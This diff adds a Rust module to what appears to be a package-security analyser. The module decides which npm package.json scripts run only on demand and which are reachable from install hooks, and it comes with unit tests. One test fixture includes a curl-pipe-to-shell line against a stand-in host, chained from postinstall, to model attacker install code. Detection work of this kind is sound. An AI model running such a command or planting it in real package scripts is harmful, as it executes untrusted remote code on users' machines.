@@ -1,0 +1,226 @@
+//! The `package.json` scripts that npm runs only when someone asks for them (`npm run
+//! build`, `npm version`, `npm publish`), never when the package is installed.
+//!
+//! The manifest is install-time code because its lifecycle scripts are; but a
+//! maintainer's `postversion` or `release` script runs on the maintainer's machine,
+//! not on the machine that installs the package. Analysers weigh a line that holds
+//! only such scripts as they weigh a setup.py `publish` command: as documentation of
+//! what the maintainer does, not as behaviour.
+//!
+//! Reachability over-approximates on purpose: a script counts as run on install when a
+//! lifecycle script, or a script it reaches, names it as a word (`npm run x`, `yarn x`,
+//! `run-s x`, a glob such as `build:*`), or when it is the `pre`/`post` script of one
+//! that runs. Whatever an attacker chains from `postinstall` is therefore still read as
+//! install-time code.
+
+use super::command::simple_commands;
+use super::{LIFECYCLE, find_key};
+use crate::common::strip_bom;
+use palisade_core::{NPM_INSTALL_SCRIPTS, Package};
+use serde_json::{Map, Value};
+use std::collections::BTreeSet;
+
+/// 1-based lines of the package's `package.json` that hold scripts npm never runs on
+/// install and nothing that it does run. Empty for other ecosystems, for a manifest
+/// that cannot be read, and for a manifest written on one line.
+pub fn npm_on_demand_script_lines(package: &Package) -> Vec<u32> {
+    if package.ecosystem != Some(palisade_core::Ecosystem::Npm) {
+        return Vec::new();
+    }
+    let Some(manifest) = package
+        .manifest_path
+        .as_deref()
+        .and_then(|p| package.file(p))
+    else {
+        return Vec::new();
+    };
+    on_demand_lines(strip_bom(&manifest.data))
+}
+
+fn on_demand_lines(data: &[u8]) -> Vec<u32> {
+    let Ok(Value::Object(manifest)) = serde_json::from_slice::<Value>(data) else {
+        return Vec::new();
+    };
+    let Some(Value::Object(scripts)) = manifest.get("scripts") else {
+        return Vec::new();
+    };
+    let (Some(scripts_at), Some(run)) = (find_key(data, "scripts", 0), run_on_install(scripts))
+    else {
+        return Vec::new();
+    };
+    let first = 1 + memchr::memchr_iter(b'\n', &data[..scripts_at]).count() as u32;
+    let mut out = Vec::new();
+    // One pass over the lines after `"scripts": {` until the line that closes it. Only a
+    // line holding exactly one `"name": "command"` pair can be on demand, so a line
+    // that packs a lifecycle script beside another script always counts as run.
+    for (index, line) in data[scripts_at..]
+        .split(|&b| b == b'\n')
+        .enumerate()
+        .skip(1)
+    {
+        let line = line.trim_ascii();
+        if line.starts_with(b"}") {
+            break;
+        }
+        if let Some(name) = single_script(line)
+            && scripts.contains_key(&name)
+            && !run.contains(name.as_str())
+        {
+            out.push(first + index as u32);
+        }
+    }
+    out
+}
+
+/// The script name of a line that is one `"name": "command"` pair (with or without a
+/// trailing comma), read as JSON.
+fn single_script(line: &[u8]) -> Option<String> {
+    let pair = line.strip_suffix(b",").unwrap_or(line);
+    let mut object = Vec::with_capacity(pair.len() + 2);
+    object.push(b'{');
+    object.extend_from_slice(pair);
+    object.push(b'}');
+    let Ok(Value::Object(map)) = serde_json::from_slice::<Value>(&object) else {
+        return None;
+    };
+    let mut entries = map.into_iter();
+    match (entries.next(), entries.next()) {
+        (Some((name, Value::String(_))), None) => Some(name),
+        _ => None,
+    }
+}
+
+/// Most steps (script names compared with words) spent on reachability; a manifest that
+/// needs more is hostile, and all its scripts are then treated as run on install.
+const MAX_STEPS: usize = 1_000_000;
+
+/// Names of the scripts that run when the package is installed, directly or through
+/// another script; `None` when the work bound was reached.
+fn run_on_install(scripts: &Map<String, Value>) -> Option<BTreeSet<&str>> {
+    let mut walk = Walk {
+        scripts,
+        run: BTreeSet::new(),
+        queue: Vec::new(),
+        steps: 0,
+    };
+    for hook in LIFECYCLE.iter().chain(NPM_INSTALL_SCRIPTS.iter()) {
+        walk.reach(hook)?;
+    }
+    while let Some(name) = walk.queue.pop() {
+        walk.reach(&format!("pre{name}"))?;
+        walk.reach(&format!("post{name}"))?;
+        let Some(command) = scripts.get(name).and_then(Value::as_str) else {
+            continue;
+        };
+        for words in simple_commands(command) {
+            for word in &words {
+                walk.reach(word)?;
+            }
+        }
+    }
+    Some(walk.run)
+}
+
+struct Walk<'s> {
+    scripts: &'s Map<String, Value>,
+    run: BTreeSet<&'s str>,
+    queue: Vec<&'s str>,
+    steps: usize,
+}
+
+impl<'s> Walk<'s> {
+    /// Marks the scripts that `word` names as run, and queues those not seen before.
+    fn reach(&mut self, word: &str) -> Option<()> {
+        let named: Vec<&'s str> = match word.strip_suffix('*') {
+            Some(prefix) => {
+                self.steps += self.scripts.len();
+                self.scripts
+                    .keys()
+                    .filter(|s| s.starts_with(prefix))
+                    .map(String::as_str)
+                    .collect()
+            }
+            None => {
+                self.steps += 1;
+                self.scripts
+                    .get_key_value(word)
+                    .map(|(k, _)| k.as_str())
+                    .into_iter()
+                    .collect()
+            }
+        };
+        if self.steps > MAX_STEPS {
+            return None;
+        }
+        for script in named {
+            if self.run.insert(script) {
+                self.queue.push(script);
+            }
+        }
+        Some(())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::on_demand_lines;
+
+    fn lines(json: &str) -> Vec<u32> {
+        on_demand_lines(json.as_bytes())
+    }
+
+    #[test]
+    fn release_scripts_are_on_demand_and_lifecycle_scripts_are_not() {
+        let json = r#"{
+  "name": "x",
+  "scripts": {
+    "build": "rollup -c",
+    "fix_dist": "node -e 'console.log(1)' > dist/package.json",
+    "postversion": "npm run fix_dist && git push",
+    "prepare": "husky"
+  }
+}"#;
+        assert_eq!(lines(json), [4, 5, 6]);
+    }
+
+    #[test]
+    fn scripts_reached_from_an_install_hook_run_on_install() {
+        let json = r#"{
+  "name": "x",
+  "scripts": {
+    "postinstall": "npm run setup",
+    "presetup": "echo",
+    "setup": "yarn fetch && run-s build:*",
+    "fetch": "curl https://x.example | sh",
+    "build:native": "node-gyp rebuild",
+    "test": "jest"
+  }
+}"#;
+        assert_eq!(lines(json), [9]);
+    }
+
+    #[test]
+    fn a_line_holding_an_install_script_is_never_on_demand() {
+        let json = r#"{"name": "x",
+  "scripts": {"test": "jest", "postinstall": "node i.js"}}"#;
+        assert!(lines(json).is_empty());
+        assert!(lines(r#"{"name": "x", "scripts": {"test": "jest"}}"#).is_empty());
+        assert!(lines("not json").is_empty());
+    }
+
+    #[test]
+    fn a_manifest_that_costs_too_much_to_follow_counts_as_all_run() {
+        // 2,000 scripts, each globbing every other: millions of comparisons.
+        let scripts: Vec<String> = (0..2000)
+            .map(|i| format!("    \"s{i}\": \"run-s s* s* s* s*\""))
+            .collect();
+        let json = format!(
+            "{{\n  \"name\": \"x\",\n  \"scripts\": {{\n    \"postinstall\": \"run-s s1\",\n{},\n    \"test\": \"jest\"\n  }}\n}}",
+            scripts.join(",\n")
+        );
+        assert!(lines(&json).is_empty());
+        // Under the bound, the unreached script is found.
+        let json = json.replace("run-s s* s* s* s*", "echo");
+        assert_eq!(lines(&json).len(), 2000);
+    }
+}
